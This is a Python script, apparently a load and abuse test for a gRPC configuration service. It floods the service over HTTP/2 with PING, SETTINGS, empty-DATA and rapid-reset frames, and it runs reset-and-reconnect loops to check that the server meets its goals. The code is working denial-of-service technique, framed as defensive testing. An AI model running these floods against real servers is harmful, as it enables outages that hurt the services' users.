# SPDX-License-Identifier: Apache-2.0
"""Cheap frames as fast as one process can send them on four connections: pings, settings, empty data, streams that are
reset as soon as they are opened. Some clients reset 250 streams and connect again, before any limit of a connection.
Others disconnect with open calls and connect again: with 100, or with as many as a host in debt may still open."""

import os
import struct
import time

import kit

# One peer's frames may take the time of its own connections, not that of others: the common goals hold as they are.
GOALS = kit.GOALS
CONNECTIONS = 4


def connect(target):
    """With TLS if certificates have been made."""
    return kit.Peer(target.port, tls=kit.tls("greedy") if "QCONFIG_ATTACK_TLS" in os.environ else None)


def flood(target, seconds, frames, beginning=lambda peer: b""):
    """Sends frames(peer, n) until the end, on new connections for those that the server closes."""
    until, peers, figures = time.monotonic() + seconds, [], {"sent_mb": 0, "connections": 0}
    sent = n = 0
    while time.monotonic() < until:
        try:
            while len(peers) < CONNECTIONS:
                peers.append(connect(target))
                peers[-1].send(beginning(peers[-1]))
                figures["connections"] += 1
            for peer in peers:
                data = frames(peer, n)
                peer.send(data)
                sent, n = sent + len(data), n + 1
        except OSError:
            time.sleep(0.01)
        peers = [peer for peer in peers if peer.is_open()]
    return {**figures, "sent_mb": sent >> 20}


def ping(target, seconds):
    return flood(target, seconds, lambda peer, n: kit.frame(kit.PING, 0, 0, b"12345678") * 200)


def settings(target, seconds):
    return flood(target, seconds, lambda peer, n: kit.frame(kit.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200)


def empty_data(target, seconds):
    return flood(
        target,
        seconds,
        lambda peer, n: kit.frame(kit.DATA, 0, 1) * 200,
        lambda peer: kit.frame(kit.HEADERS, kit.END_HEADERS, 1, peer.request(kit.GET_CONFIG)),
    )


def rapid_reset(target, seconds):
    def frames(peer, n):
        out, first = b"", getattr(peer, "next_stream", 1)
        for stream in range(first, first + 100, 2):
            call = kit.config_request(tenant="greedy", model_type="llama", scheme=f"none{n}-{stream}")
            out += kit.frame(kit.HEADERS, kit.END_HEADERS, stream, peer.request(kit.GET_CONFIG))
            out += kit.frame(kit.DATA, kit.END_STREAM, stream, kit.message(call.SerializeToString())) + kit.frame(
                kit.RST, 0, stream, struct.pack(">I", 8)
            )
        peer.next_stream = first + 100
        return out

    return flood(target, seconds, frames)


def reset_and_reconnect(target, seconds, method=kit.GET_CONFIG, calls=250, resets=True):
    """The same bytes on each connection, so that sending them costs the client nearly nothing."""
    until, figures, peers, first = time.monotonic() + seconds, {"connections": 0, "refused": 0}, [], b""
    while time.monotonic() < until:
        try:
            peer = connect(target)
            if not first:
                peer.encoder.header_table_size = 0  # no headers depend on earlier ones
                # A server that took this for a call would not see the others, whose numbers are smaller.
                first = kit.frame(kit.HEADERS, kit.END_HEADERS, 0x7FFFFFFE, peer.request(method))
                for stream in range(1, 2 * calls, 2):
                    call = kit.config_request(tenant="greedy", model_type="llama", scheme=f"none{stream}")
                    first += kit.frame(kit.HEADERS, kit.END_HEADERS, stream, peer.request(method))
                    first += kit.frame(kit.DATA, kit.END_STREAM, stream, kit.message(call.SerializeToString()))
                    first += kit.frame(kit.RST, 0, stream, struct.pack(">I", 8)) if resets else b""
            peer.send(first)
            figures["connections"] += 1
            peers.append(peer)
        except OSError:
            figures["refused"] += 1
        if len(peers) > CONNECTIONS:
            peers.pop(0).close()
    return figures


def reset_lists_and_reconnect(target, seconds):
    return reset_and_reconnect(target, seconds, "/qconfig.v1.ConfigService/ListSchemes")


def reset_batches_and_reconnect(target, seconds):
    return reset_and_reconnect(target, seconds, "/qconfig.v1.ConfigService/BatchGetConfig")


def disconnect(target, seconds):
    return reset_and_reconnect(target, seconds, calls=100, resets=False)


def disconnect_lists(target, seconds):
    return reset_and_reconnect(target, seconds, "/qconfig.v1.ConfigService/ListSchemes", calls=100, resets=False)


def disconnect_with_few(target, seconds):
    return reset_and_reconnect(target, seconds, calls=4, resets=False)


if __name__ == "__main__":
    kit.main(
        ping,
        settings,
        empty_data,
        rapid_reset,
        reset_and_reconnect,
        reset_lists_and_reconnect,
        reset_batches_and_reconnect,
        disconnect,
        disconnect_lists,
        disconnect_with_few,
        goals=GOALS,
        seconds=18,
    )
